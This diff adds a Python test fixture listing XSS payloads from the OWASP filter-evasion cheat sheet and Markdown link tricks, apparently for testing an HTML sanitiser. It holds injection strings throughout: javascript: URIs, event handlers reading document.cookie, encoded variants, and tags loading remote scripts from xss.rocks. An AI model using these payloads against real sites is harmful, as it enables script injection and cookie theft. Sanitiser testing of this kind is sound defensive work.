@@ -1,0 +1,106 @@
+"""XSS payloads from the OWASP XSS Filter Evasion Cheat Sheet, plus Markdown's own ways to write a link or an
+image, for the sanitiser's tests (test_rendering.py) and the browser test (test_browser.py)."""
+
+OWASP = [
+    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
+    '<a onmouseover="alert(document.cookie)">xxs link</a>',
+    "<a onmouseover=alert(document.cookie)>xxs link</a>",
+    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC= onmouseover=\"alert('xxs')\">",
+    "<IMG onmouseover=\"alert('xxs')\">",
+    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
+    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
+    '&#0000083&#0000039&#0000041">',
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;"
+    "&#39;&#88;&#83;&#83;&#39;&#41;>",
+    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
+    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083"
+    "&#0000039&#0000041>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27"
+    "&#x58&#x53&#x53&#x27&#x29>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
+    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+    '<SCRIPT/SRC="http://xss.rocks/xss.js"></SCRIPT>',
+    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
+    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
+    "<SCRIPT SRC=//xss.rocks/.j>",
+    "<IMG SRC=\"`('XSS')\"",
+    "<iframe src=http://xss.rocks/scriptlet.html <",
+    "\\\";alert('XSS');//",
+    '</script><script>alert("XSS");</script>',
+    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
+    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
+    "<svg/onload=alert('XSS')>",
+    "<BODY ONLOAD=alert('XSS')>",
+    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
+    "<BR SIZE=\"&{alert('XSS')}\">",
+    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
+    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
+    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
+    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
+    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
+    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cD'
+    "ov"
+    "L3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9Ij"
+    "AiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh"
+    'TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="httx://xss.rocks/xss.js"></SCRIPT>',
+    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
+    '<a href="&#x6A;avascript:alert(1)">entity link</a>',
+    '<math><mi xlink:href="javascript:alert(1)">math</mi></math>',
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    "<details open ontoggle=alert(1)>",
+    '<video><source onerror="alert(1)"></video>',
+    '<p style="color:red" class="evil" id="clobber">styled</p>',
+]
+
+MARKDOWN = [
+    "[click me](javascript:alert(1))",
+    "[click me](JaVaScRiPt:alert(1))",
+    "[click me]( javascript:alert(1) )",
+    "[click me](&#106;avascript:alert(1))",
+    "[click me](vbscript:msgbox(1))",
+    "[click me](data:text/html,<script>alert(1)</script>)",
+    "![image](javascript:alert(1))",
+    '![image](x" onerror="alert(1))',
+    "[ref link][1]\n\n[1]: javascript:alert(1)",
+    "<javascript:alert(1)>",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+    '[title attr](https://example.com "x\\" onmouseover=\\"alert(1))',
+    '```python" onmouseover="alert(1)\nprint(1)\n```',
+]
+
+PAYLOADS = OWASP + MARKDOWN
